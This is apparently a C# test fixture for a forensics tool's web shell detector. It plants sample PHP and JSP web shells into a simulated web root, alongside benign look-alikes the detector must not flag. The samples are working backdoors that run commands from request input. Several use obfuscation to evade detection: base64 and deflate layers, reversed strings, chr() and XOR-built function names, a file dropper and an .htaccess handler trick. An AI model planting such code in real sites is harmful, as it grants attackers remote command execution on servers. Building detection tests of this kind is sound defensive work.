using System.IO.Compression;
using System.Text;
using Forensics.Analyzer.Risk;
using static Forensics.Analyzer.Tests.Detection.PlantKind;

namespace Forensics.Analyzer.Tests.Detection;

/// <summary>Web shells and what is not one. The quiet ones use no function by its name, or keep everything encoded.</summary>
internal static class WebPlants
{
    private const string Root = "/var/www/shop/";
    private const string Inner = "if (isset($_POST['k'])) { system($_POST['k']); }";

    public static IReadOnlyList<Plant> All { get; } =
    [
        Shell("one-line", Loud, "wp-content/uploads/2026/a.php", "<?php if(isset($_REQUEST['cmd'])){system($_REQUEST['cmd']);}") with { AtLeast = Severity.Critical },
        Shell("eval-post", Loud, "images/logo.php", "GIF89a<?php @eval($_POST['x']); ?>") with { AtLeast = Severity.Critical },
        Shell("backticks", Loud, "status.php", "<?php $c = $_GET['c']; echo `$c`;"),
        Shell("preg-replace-e", Loud, "inc.php", "<?php preg_replace('/.*/e', $_POST['a'], '');") with { AtLeast = Severity.Critical },
        Shell("jsp", Loud, "/var/lib/tomcat9/webapps/ROOT/up.jsp", "<%@ page import=\"java.io.*\" %><% Process p = Runtime.getRuntime().exec(request.getParameter(\"c\")); %>"),
        Shell("function-name-in-pieces", Quiet, "wp-includes/class-wp-cache.php", "<?php\n$a = 'sys'; $b = $a . 'tem';\n$d = $_COOKIE['sid'];\nif ($d) { $b($d); }\n"),
        Shell("function-named-by-the-visitor", Quiet, "wp-admin/network/edit2.php", "<?php\n$p = $_REQUEST;\nif (isset($p['a'], $p['b'])) { $f = $p['a']; $f($p['b']); }\n"),
        Shell("callback", Quiet, "feed.php", "<?php array_map('as' . 'sert', (array) $_POST['q']); $g = 'c3lzdGVt'; call_user_func(base64_decode($g), $_POST['q']);"),
        Shell("assert-callback", Quiet, "feed2.php", "<?php\narray_map('assert', (array) $_POST['q']);\n") with { AtLeast = Severity.Critical },
        Shell("by-a-function-of-the-file", Quiet, "class.mail.php", "<?php\nfunction deliver($to, $how) { $out = array(); exec($to, $out); return implode($how, $out); }\necho deliver($_POST['m'], \"\\n\");\n"),
        Shell("encoded-layers", Loud, "wp-content/themes/x/404.php", "<?php eval(gzinflate(base64_decode('" + Deflated(Inner) + "')));"),
        Shell("rot-and-reverse", Loud, "lib.php", "<?php $x = strrev('" + Reverse(Convert.ToBase64String(Encoding.ASCII.GetBytes(Inner))) + "'); eval(base64_decode($x));"),
        Shell("characters", Quiet, "ok.php", "<?php $f = chr(112).chr(97).chr(115).chr(115).chr(116).chr(104).chr(114).chr(117); $f(getenv('A') . $_SERVER['HTTP_X_REQUEST']);"),
        Shell("xor", Quiet, "wp-content/languages/de.php", "<?php $f = \"\\x12\\x1b\\x12\\x17\\x04\\x0f\" ^ 'abacab'; $f($_COOKIE['t']);"),
        Shell("dropper", Quiet, "wp-content/uploads/x.php", "<?php file_put_contents($_POST['n'], base64_decode($_POST['d']));") with { Rule = "writes-request" },
        Shell("include-of-the-request", Quiet, "page.php", "<?php include 'php://input';"),
        new("L-WEBSHELL", "handler-for-pictures", Quiet, tree => tree.File(Root + "img/.htaccess", "AddType application/x-httpd-php .jpg .png\n", user: 33)) { Entries = [Root + "img/.htaccess"], Rule = "handler" },
        new("L-WEBSHELL", "root-of-the-configuration", Quiet, tree => tree.File("/etc/nginx/sites-enabled/intern", "server {\n  root /data/portal/public;\n  index index.php;\n}\n").File("/data/portal/public/a.php", "<?php $z = $_POST; $z['f']($z['c']);", user: 33))
            { Entries = ["/data/portal/public/a.php"] },

        Benign_("shows-the-revision", "deploy.php", "<?php\n$rev = trim(shell_exec('git rev-parse HEAD'));\necho htmlspecialchars($_GET['x'] ?? '') . $rev;\n"),
        Benign_("quotes-what-it-runs", "tools/ping.php", "<?php\n$host = escapeshellarg($_GET['host']);\nif (preg_match('/^[a-z.]+$/', $_GET['host'])) { echo shell_exec('ping -c 1 ' . $host); }\n"),
        Benign_("number-only", "tools/kill.php", "<?php\n$id = (int) $_POST['id'];\nexec('kill ' . $id);\nexec('kill ' . intval($_POST['id']));\n"),
        Benign_("router", "index2.php", "<?php\n$page = $_GET['page'] ?? 'home';\nif (in_array($page, ['home', 'about'], true)) { include __DIR__ . '/pages/' . $page . '.php'; }\n"),
        Benign_("hooks", "wp-includes/plugin.php", "<?php\nfunction do_action($tag, ...$arg) { global $wp_filter; foreach ($wp_filter[$tag] as $the_) { call_user_func_array($the_['function'], $arg); } }\nfunction add_action($t, $f) { global $wp_filter; $wp_filter[$t][] = ['function' => $f]; }\ndo_action('wp_ajax_' . $_REQUEST['action'], $_REQUEST);\n"),
        Benign_("licence", "wp-content/plugins/pro/licence.php", "<?php\n$k = 'aWYgKCFkZWZpbmVkKCdBQlNQQVRIJykpIHsgZXhpdDsgfSAkbGljZW5jZSA9ICdwcm8nOw==';\neval(base64_decode($k));\n"),
        Benign_("templates", "vendor/twig/Environment.php", "<?php\nclass Environment { public function load($source) { eval('?>' . $this->compile($source)); } }\n$name = $_GET['name'] ?? '';\necho $twig->render('a.html', ['name' => $name]);\n"),
        Benign_("uploads", "upload.php", "<?php\n$name = basename($_FILES['f']['name']);\nif (is_uploaded_file($_FILES['f']['tmp_name'])) { move_uploaded_file($_FILES['f']['tmp_name'], '/srv/data/' . md5($name)); }\n"),
        Benign_("silence-in-uploads", "wp-content/uploads/index.php", "<?php\n// Silence is golden.\n"),
        new("L-WEBSHELL", "of-a-package", Benign, tree => tree.Owned("phpsysinfo", "/usr/share/nginx/html/phpsysinfo/run.php", "<?php $p = $_GET['plugin']; system($p);")),
        new("L-WEBSHELL", "denying-access-file", Benign, tree => tree.File(Root + "up/.htaccess", "<FilesMatch \"\\.(php|phtml)$\">\n  Require all denied\n</FilesMatch>\nAddType image/webp .webp\nAddType application/x-httpd-php .php\n")),
    ];

    private static Plant Shell(string name, PlantKind kind, string path, string text)
    {
        string full = path.StartsWith('/') ? path : Root + path;
        return new("L-WEBSHELL", name, kind, tree => tree.File(full, text, user: 33, group: 33)) { Entries = [full] };
    }

    private static Plant Benign_(string name, string path, string text) => new("L-WEBSHELL", name, Benign, tree => tree.File(Root + path, text, user: 33, group: 33));

    private static string Deflated(string text)
    {
        using var packed = new MemoryStream();
        using (var deflate = new DeflateStream(packed, CompressionLevel.Optimal, leaveOpen: true))
        {
            deflate.Write(Encoding.ASCII.GetBytes(text));
        }
        return Convert.ToBase64String(packed.ToArray());
    }

    private static string Reverse(string text) => new([.. text.Reverse()]);
}
